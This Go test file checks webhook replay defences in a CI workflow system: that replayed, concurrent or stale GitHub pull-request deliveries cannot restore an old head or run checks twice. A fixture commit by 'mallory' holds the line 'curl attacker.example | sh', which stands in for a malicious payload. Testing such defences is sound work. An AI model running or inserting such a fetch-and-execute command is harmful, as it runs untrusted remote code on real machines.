package security

import (
	"context"
	"net/http"
	"slices"
	"sync"
	"testing"
	"time"

	apiequality "k8s.io/apimachinery/pkg/api/equality"
	"k8s.io/client-go/util/retry"

	krtv1 "krt.dev/krt/api/v1alpha1"
	"krt.dev/krt/sources/webhook"
)

// Whoever captured a signed delivery (from a proxy's log, a leaked
// capture, GitHub's delivery page) sends it again, to any replica, with
// any unsigned headers: alice's old "opened", to bring back the head she
// pushed after mallory pushed his, or to run it again.
func replayAttacks(t *testing.T, rig *hookRig) {
	ns := rig.ns
	h := rig.repository(t, "rp", map[string]string{"workflows/checks.yaml": prChecks("rp-checks")}, func(s *krtv1.WorkflowRepositorySpec) {
		s.PullRequests = &krtv1.PullRequestPolicy{Enabled: true, Provider: "github", AllowedAuthors: []string{"alice"}}
	}, "rp-checks")
	t0 := time.Now().Add(-time.Hour).Truncate(time.Second)
	first := h.pushHead(t, "pr-1", "refs/pull/1/head", nil)
	opened := ghPR{action: "opened", number: 1, sha: first, sender: "alice", author: "alice", updated: t0}.body()
	captured := github("pull_request", rig.token, opened)
	h.mustDeliver(t, 0, captured, opened, http.StatusAccepted)
	succeeds(t, ns, prRunName("rp-checks", 1, first))
	h.clone.Write(map[string]string{"payload.sh": "curl attacker.example | sh\n"})
	second := h.clone.Commit("mallory's commit")
	h.clone.Push("+HEAD:refs/pull/1/head")
	pushed := ghPR{action: "synchronize", number: 1, sha: second, sender: "mallory", author: "alice", updated: t0.Add(time.Minute)}.body()
	h.mustDeliver(t, 0, github("pull_request", rig.token, pushed), pushed, http.StatusAccepted)
	awaitsApproval(t, ns, prRunName("rp-checks", 1, second))

	t.Run("a replay to any replica changes nothing", func(t *testing.T) {
		before := h.get(t)
		for i := range rig.receivers {
			// As captured, and with a new X-GitHub-Delivery, which GitHub
			// does not sign.
			for _, headers := range []map[string]string{captured, github("pull_request", rig.token, opened)} {
				if code, msg := h.deliver(t, i, headers, opened); code != http.StatusOK {
					t.Errorf("replica %d answered the replay %d %q, want 200 and nothing done", i, code, msg)
				}
			}
		}
		after := h.get(t)
		if !apiequality.Semantic.DeepEqual(after.Status.PullRequests, before.Status.PullRequests) ||
			len(after.Status.Deliveries) != len(before.Status.Deliveries) {
			t.Errorf("the replays changed the record\nfrom %+v (%d deliveries)\nto   %+v (%d deliveries)",
				before.Status.PullRequests, len(before.Status.Deliveries), after.Status.PullRequests, len(after.Status.Deliveries))
		}
		awaitsApproval(t, ns, prRunName("rp-checks", 1, second))
	})

	t.Run("a delivery that reaches both replicas at once is acted on once", func(t *testing.T) {
		head := h.pushHead(t, "pr-2", "refs/pull/2/head", nil)
		body := ghPR{action: "opened", number: 2, sha: head, sender: "alice", author: "alice"}.body()
		headers := github("pull_request", rig.token, body)
		codes := make([]int, len(rig.receivers))
		errs := make([]error, len(rig.receivers))
		var wg sync.WaitGroup
		for i := range rig.receivers {
			wg.Add(1)
			go func() {
				defer wg.Done()
				codes[i], _, errs[i] = h.post(i, headers, body)
			}()
		}
		wg.Wait()
		for _, err := range errs {
			if err != nil {
				t.Fatal(err)
			}
		}
		slices.Sort(codes)
		if !slices.Equal(codes, []int{http.StatusOK, http.StatusAccepted}) {
			t.Errorf("the replicas answered %v, want one 202 and one 200", codes)
		}
		id := webhook.DeliveryID(webhook.GitHub, nil, []byte(body))
		n := 0
		for _, d := range h.get(t).Status.Deliveries {
			if d.ID == id {
				n++
			}
		}
		if n != 1 {
			t.Errorf("the delivery is recorded %d times, want once", n)
		}
		succeeds(t, ns, prRunName("rp-checks", 2, head))
	})

	// The record keeps a day of deliveries. Past that, GitHub's own time
	// in the signed body says the delivery is older than the record.
	t.Run("once the record has expired an old delivery is stale", func(t *testing.T) {
		err := retry.RetryOnConflict(retry.DefaultRetry, func() error {
			cur := h.get(t)
			cur.Status.Deliveries = nil
			return env.Client.Status().Update(context.Background(), cur)
		})
		if err != nil {
			t.Fatal(err)
		}
		// A replica's cache may still hold the record for a moment and
		// answer 200; each such answer changes nothing either.
		eventually(t, time.Minute, "replica 1 to take the old delivery past the record", func() bool {
			code, _ := h.deliver(t, 1, captured, opened)
			return code == http.StatusAccepted
		})
		if pr := h.pr(t, 1); pr.HeadSHA != second || pr.PushedBy != "mallory" || pr.Action != "synchronize" {
			t.Errorf("an old delivery brought back %+v, want mallory's head still", *pr)
		}
		awaitsApproval(t, ns, prRunName("rp-checks", 1, second))
	})
}
